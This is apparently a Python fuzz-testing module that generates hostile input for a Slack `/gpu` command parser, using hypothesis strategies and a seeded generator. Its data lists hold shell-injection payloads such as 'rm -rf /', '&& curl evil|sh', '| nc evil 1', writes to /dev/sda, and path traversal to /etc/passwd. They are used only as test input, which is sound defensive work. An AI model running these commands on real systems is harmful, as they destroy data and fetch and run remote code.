"""What a hostile or careless user types after `/gpu`, as hypothesis strategies and as a seeded generator.

Both draw from the same pieces: command words (known, synonyms, typos), options (real, repeated,
`=`-joined, injected), values that are numbers, paths, shell, Slack markup or unicode, the `--`
separator in odd places, and whitespace of every kind. The seeded generator feeds the end-to-end tests,
which cannot run under hypothesis' shrinking; the strategies feed the pure fuzz.
"""

from __future__ import annotations

import random
import shlex

from hypothesis import strategies as st

VERBS = (
    "run", "status", "release", "extend", "help", "warm", "doctor", "RUN", "Run", "start", "kill", "rm",
    "ls", "stop", "renew", "rnu", "relase", "-h", "--help", "?", "usage", "all", "--", "-", "/gpu", "gpu",
)  # fmt: skip
OPTIONS = (
    "--gpus", "--type", "--hours", "--cpu", "--memory", "--name", "--profile", "--image", "--privileged",
    "--gpus=", "--name=", "-g", "-n", "-t", "---gpus", "--=x", "--GPUS", "--gpu", "\u2014gpus", "\u2013name",
)  # fmt: skip
IMAGES = (
    "nvidia/cuda:12.4.1-base-ubuntu22.04", "ubuntu", "pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime",
    "nvcr.io/nvidia/pytorch:24.01-py3", "localhost:5000/x", "ghcr.io/a/b@sha256:" + "a" * 64,
    "Ubuntu", "ubuntu:", "ubuntu@", "https://docker.io/ubuntu", "../../etc/passwd", "/bin/sh",
    "ubuntu;rm -rf /", "$(id)", "`id`", "a" * 300, "x:" + "y" * 200, "ubuntu:latest\n", "ubuntu\u200b",
    "\uff55\uff42\uff55\uff4e\uff54\uff55", "[::1]:5000/x", "a..b", "a__b", "A/B", ".hidden", "-ubuntu",
    "ubuntu:-tag",
)  # fmt: skip
VALUES = (
    "1", "2", "0", "-1", "16", "17", "99999", "1.5", "90m", "2h", "0.01", "720", "721", "1e3", "0x10", "NaN",
    "inf", "500m", "8Gi", "16GB", "1Pi", "4Ti", "512Mi", "my-training", "My_Training", "all", "a" * 64,
    "a" * 63, "-leading", "trailing-", "../", "../../etc", "./x", "/", "..", "~root", "t4", "T4", "a100",
    "$(rm -rf /)", "`rm -rf /`", "; rm -rf /", "| nc evil 1", "&& reboot", "> /etc/passwd", "${IFS}",
    "$HOME", "'", '"', "\\", "\\n", "%s%s%n", "{{7*7}}", "<script>", "\x00", "\x1b[31m", "\u202e", "١٢",
    "²", "\u212a", "İ", "ß", "🚀", "零", "\ufeff", "\u00a0", "\U0001d7d9",
)  # fmt: skip
SLACK_MARKUP = (
    "<@U01ABC>", "<@U01ABC|bob>", "<#C01GPU|gpu-users>", "<!here>", "<!channel>", "<!subteam^S01|@ops>",
    "<http://evil.example|nvidia/cuda>", "<https://x.io/a|x.io/a>", "<mailto:a@b.c|a@b.c>",
    "<http://x.io>", "&amp;", "&lt;", "&gt;", "&lt;@U01&gt;", "&amp;amp;", "&#x27;", "&quot;",
    "\u201cx\u201d", "\u2018y\u2019", "*bold*", "_it_", "~del~", "`code`", "```block```", ":rocket:",
)  # fmt: skip
SHELL = (
    "$(rm -rf /)", "`reboot`", "; rm -rf /", "&& curl evil|sh", "|| true", "> /dev/sda", "<(id)", "$((1+1))",
    "*", "?", "[a-z]", "{a,b}", "!!", "#", "~", "\\$HOME", "'$(id)'", '"$(id)"', "a\\ b",
)  # fmt: skip
INJECTIONS = (
    "--name=$(rm -rf /)", "--name $(rm -rf /)", "--profile ../", "--type ../../etc", "--type=..",
    "--name=../../x", "--gpus 1 --gpus 8", "--gpus=1 --gpus=2", "-- --gpus 8", "--gpus -- 2",
    "--name -- x", "-- -- --", "--name=", "--gpus=", "--hours=-1", "--hours 1e9", "--memory=-8Gi",
    "--cpu=0", "--name=all", "--name ALL", "--type=T4 --type=a100", "--name a --name b",
    "--privileged", "--hostPath /", "--securityContext={}", "--command sh -c", "--image=evil",
    "-- sh -c 'id'", "-- $(id)", "--  ", "--\u00a0x",
)  # fmt: skip
SPACES = (" ", " ", " ", "  ", "\t", "\n", "\u00a0", "\u3000", "\u2003", "\u200b", "\r\n")

_pieces = (IMAGES, VALUES, SLACK_MARKUP, SHELL, INJECTIONS, OPTIONS, VERBS)


# -- hypothesis -------------------------------------------------------------------------------------------

_any_unicode = st.text(st.characters(codec=None), max_size=40)
_huge = st.builds(
    lambda piece, times: piece * times, st.text(min_size=1, max_size=6), st.integers(200, 2_500)
)
word = st.one_of(*(st.sampled_from(pieces) for pieces in _pieces), _any_unicode)
_space = st.sampled_from(SPACES)


@st.composite
def commands(draw: st.DrawFn) -> str:
    """A whole `/gpu` text: a verb, hostile words, maybe a `--` command part, maybe one huge word."""
    words = [draw(st.sampled_from(VERBS)), *draw(st.lists(word, max_size=8))]
    if draw(st.booleans()):
        words += ["--", *draw(st.lists(st.one_of(word, st.sampled_from(SHELL)), max_size=4))]
    if draw(st.integers(0, 9)) == 0:
        words.insert(draw(st.integers(0, len(words))), draw(_huge))
    spaces = draw(st.lists(_space, min_size=len(words), max_size=len(words)))
    return "".join(f"{gap}{text}" for gap, text in zip(spaces, words, strict=True))


gpu_text = st.one_of(commands(), st.text(max_size=200), _huge)
"""Mostly command-shaped hostile text, some plain random text, some very long strings."""

slack_ids = st.one_of(
    st.from_regex(r"\A[UW][A-Z0-9]{8,10}\Z"),
    st.sampled_from(["U_ALICE", "", "u01abc", "U01/../x", "<@U01>", "U01 ABC", "U" * 100, "Ü01", "-U-"]),
    st.text(max_size=70),
)
"""Slack user (and team) ids: real-looking, and what a forged or future payload might carry."""
slack_names = st.one_of(st.sampled_from(SLACK_MARKUP + SHELL + VALUES), st.text(max_size=300))


# -- seeded, for the end-to-end tests ---------------------------------------------------------------------


def seeded_commands(seed: int, count: int) -> list[str]:
    """`count` hostile texts, the same ones for the same seed."""
    rng = random.Random(seed)
    texts = []
    for _ in range(count):
        words = [rng.choice(VERBS)]
        for _ in range(rng.randint(0, 6)):
            words.append(rng.choice(rng.choice(_pieces)))
        if rng.random() < 0.3:
            words += ["--", *rng.sample(SHELL, rng.randint(1, 3))]
        texts.append("".join(f"{rng.choice(SPACES)}{w}" for w in words).strip())
    return texts


def quoted(argv: list[str]) -> str:
    return " ".join(shlex.quote(word) for word in argv)


# -- runs that parse: hostile values where the grammar still accepts them --------------------------------

VALID_IMAGES = (
    "nvidia/cuda:12.4.1-base-ubuntu22.04", "ubuntu", "ubuntu:22.04",
    "pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime",
    "nvcr.io/nvidia/pytorch:24.01-py3", "localhost:5000/team/x", "ghcr.io/a/b@sha256:" + "a" * 64,
    "registry.example.com:443/a/b/c:v1.2_3", "[::1]:5000/x:y", "a__b/c-d.e:x",
)  # fmt: skip
_image = st.one_of(
    st.sampled_from(VALID_IMAGES),
    st.from_regex(r"\A[a-z0-9]{1,12}(/[a-z0-9]{1,12}){0,2}(:[A-Za-z0-9_][A-Za-z0-9_.-]{0,20})?\Z"),
)
_dns_label = st.from_regex(r"\A[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?\Z")
_OPTION_VALUES = {
    "--gpus": st.one_of(st.integers(-3, 40).map(str), st.sampled_from(VALUES)),
    "--type": st.one_of(st.sampled_from(("t4", "T4", "a100", "../", "..", "t4/../a100", "t4 ")), word),
    "--hours": st.one_of(st.sampled_from(("1", "0.5", "90m", "2h", "720", "721", "0", "-1")), word),
    "--cpu": st.one_of(st.sampled_from(("1", "0.25", "750m", "64", "10m", "256", "257")), word),
    "--memory": st.one_of(st.sampled_from(("512Mi", "16Gi", "1.5Gi", "100G", "1Ti", "8Pi", "1")), word),
    "--name": st.one_of(_dns_label, st.sampled_from(VALUES), st.text(max_size=70)),
}
# Slack escapes `&<>` and clients curl quotes, and the parser undoes both, so an argv meant to arrive
# unchanged leaves those out; `hostile_argv` keeps them, and every other character, NUL included.
_plain_char = st.characters(codec="utf-8", exclude_characters="&<>\u201c\u201d\u2018\u2019")
plain_argv = st.lists(st.text(_plain_char, max_size=16), max_size=6)
hostile_argv = st.lists(st.one_of(word, st.sampled_from(SHELL), st.text(max_size=16)), max_size=6)


@st.composite
def run_texts(draw: st.DrawFn, argv: st.SearchStrategy[list[str]] = plain_argv) -> tuple[str, list[str]]:
    """`run IMAGE [options] -- ARGV`, with the argv shell-quoted so it arrives as typed: (text, argv)."""
    options = draw(st.lists(st.sampled_from(sorted(_OPTION_VALUES)), max_size=4, unique=True))
    words = ["run", draw(_image)]
    for option in options:
        value = draw(_OPTION_VALUES[option])
        words += [f"{option}={shlex.quote(value)}"] if draw(st.booleans()) else [option, shlex.quote(value)]
    command: list[str] = draw(argv)
    separated = bool(command) or draw(st.booleans())
    text = " ".join(words) + (" -- " + quoted(command) if separated else "")
    return text, command
